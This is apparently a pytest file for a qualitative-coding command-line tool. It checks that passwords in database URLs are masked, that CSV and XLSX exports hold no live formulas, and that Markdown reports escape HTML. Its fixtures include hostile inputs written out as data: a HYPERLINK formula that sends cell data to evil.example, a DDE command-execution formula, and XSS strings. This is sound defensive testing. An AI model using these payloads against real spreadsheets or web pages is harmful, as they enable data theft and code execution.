"""No secret printed, no formula run: issue 19's first two items, reproduced."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import pytest

from .conftest import Cli

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"clic")', "+33 6 12 34 56 78",
           "-- je ne sais pas", "@SUM(1+1)", "=> oui"]


@pytest.mark.parametrize("url, needle", [
    ("postgresql://pgadmin:goodpw@127.0.0.1:notaport/x", "port is not a number"),
    ("postgresql://pgadmin:goodpw@127.0.0.1:1/x", "cannot open the project"),
    ("postgresql://pgadmin:goodpw@127.0.0.1:99999/x", "out of range"),
    ("mysql://pgadmin:goodpw@db.example/x", "unsupported database 'mysql'"),
])
def test_a_password_in_a_url_is_never_printed(cli: Cli, url: str, needle: str) -> None:
    for args in (("quotes",), ("init",), ("demo", "--no-tui")):
        result = cli("--db", url, *args)
        assert result.code == 1, (args, result.err)
        assert result.err.count("\n") == 1, result.err
        assert "goodpw" not in result.err + result.out and "***" in result.err
        assert needle in result.err


def test_merge_and_success_messages_mask_passwords(cli: Cli, demo_db: Path) -> None:
    other = "postgresql://alice:s3cret@127.0.0.1:1/other"
    result = cli("--db", str(demo_db), "merge", other)
    assert result.code == 1 and "s3cret" not in result.err and "alice:***@" in result.err


@pytest.fixture
def hostile_project(cli: Cli, tmp_path: Path) -> str:
    db = str(tmp_path / "h.db")
    assert cli("--db", db, "init").code == 0
    table = tmp_path / "hostile.csv"
    with table.open("w", encoding="utf-8", newline="") as fh:
        writer = csv.writer(fh)
        writer.writerow(["group", "speaker", "text", "codes"])
        for i, text in enumerate(HOSTILE):
            writer.writerow(["G1", f"=P{i}", text, "=cmd|' /C calc'!A0"])
    assert cli("--db", db, "import", str(table), "--add-codes").code == 0
    return db


def test_report_and_tables_never_hold_a_formula(cli: Cli, hostile_project: str,
                                                tmp_path: Path) -> None:
    for fmt in ("xlsx", "csv"):
        report = tmp_path / f"report.{fmt}"
        assert cli("--db", hostile_project, "report", "--format", fmt, "-o",
                   str(report)).code == 0
        table = tmp_path / f"quotes.{fmt}"
        assert cli("--db", hostile_project, "quotes", "--format", fmt, "-o",
                   str(table)).code == 0
        for path in (report, table):
            if fmt == "xlsx":
                with zipfile.ZipFile(path) as package:
                    for name in package.namelist():
                        if name.startswith("xl/worksheets/"):
                            assert "<f>" not in package.read(name).decode(), (path, name)
            else:
                cells = [c for row in csv.reader(io.StringIO(path.read_text("utf-8-sig")))
                         for c in row]
                executable = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")
                              and not c.replace(".", "").replace("-", "").isdigit()]
                assert executable == [], (path, executable)


def test_a_foreign_sqlite_file_is_refused_and_left_as_it_was(cli: Cli, demo_db: Path,
                                                             tmp_path: Path) -> None:
    import sqlite3

    foreign = tmp_path / "r.db"
    with sqlite3.connect(foreign) as conn:
        conn.execute("CREATE TABLE t (x)")
        conn.execute("INSERT INTO t VALUES (1)")
    before = foreign.read_bytes()
    for args in (("--db", str(foreign), "quotes"), ("--db", str(demo_db), "merge", str(foreign))):
        result = cli(*args)
        assert result.code == 1 and "not a qualcode project" in result.err, result.err
    assert foreign.read_bytes() == before
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith("r.db")) == ["r.db"]
    with sqlite3.connect(foreign) as conn:
        assert conn.execute("PRAGMA journal_mode").fetchone()[0] == "delete"


def test_markdown_report_shows_html_in_quotes_and_names_without_running_it(
        cli: Cli, demo_db: Path) -> None:
    import sqlite3

    con = sqlite3.connect(demo_db)
    con.execute("UPDATE quote SET text = '<img src=x onerror=alert(1)> et <script>vol()</script>"
                " < 3 fois' WHERE id = (SELECT min(quote_id) FROM coding)")
    con.execute("UPDATE code SET name = '<b>gras</b>' WHERE name = 'hacking'")
    con.commit()
    con.close()
    out = cli("--db", str(demo_db), "report", "--format", "md", "--quotes", "50").out
    assert "<img" not in out and "<script" not in out and "<b>" not in out
    assert "&lt;img src=x onerror=alert(1)>" in out and "&lt;b>gras&lt;/b>" in out
    assert "< 3 fois" in out and "<35" in out  # a < that opens nothing stays as written


def test_a_coded_tables_workbook_holds_every_text_as_text(cli: Cli, hostile_project: str,
                                                          tmp_path: Path) -> None:
    """Streamed row by row, each text is a string cell as written: not a formula, and
    not an error value either (openpyxl stores `#N/A` as one); the header bold, the
    first row frozen, the verbatims wrapped."""
    from openpyxl import load_workbook

    errors = tmp_path / "errors.csv"
    errors.write_text("group,speaker,text\nG2,#N/A,#N/A\nG2,Zoé,#DIV/0!\n", encoding="utf-8")
    assert cli("--db", hostile_project, "import", str(errors)).code == 0
    table = tmp_path / "quotes.xlsx"
    assert cli("--db", hostile_project, "quotes", "--format", "xlsx", "-o", str(table)).code == 0
    sheet = load_workbook(table).active
    assert sheet is not None and sheet.freeze_panes == "A2"
    rows = list(sheet.iter_rows())
    assert [c.value for c in rows[0][:6]] == ["id", "group", "speaker", "text", "coder",
                                              "codes"]
    assert all(c.font.b for c in rows[0])
    texts = {row[3].value for row in rows[1:]}
    assert {*HOSTILE, "#N/A", "#DIV/0!"} <= texts
    for row in rows[1:]:
        assert row[3].alignment.wrap_text
        assert all(c.data_type == "s" for c in row if isinstance(c.value, str)), row
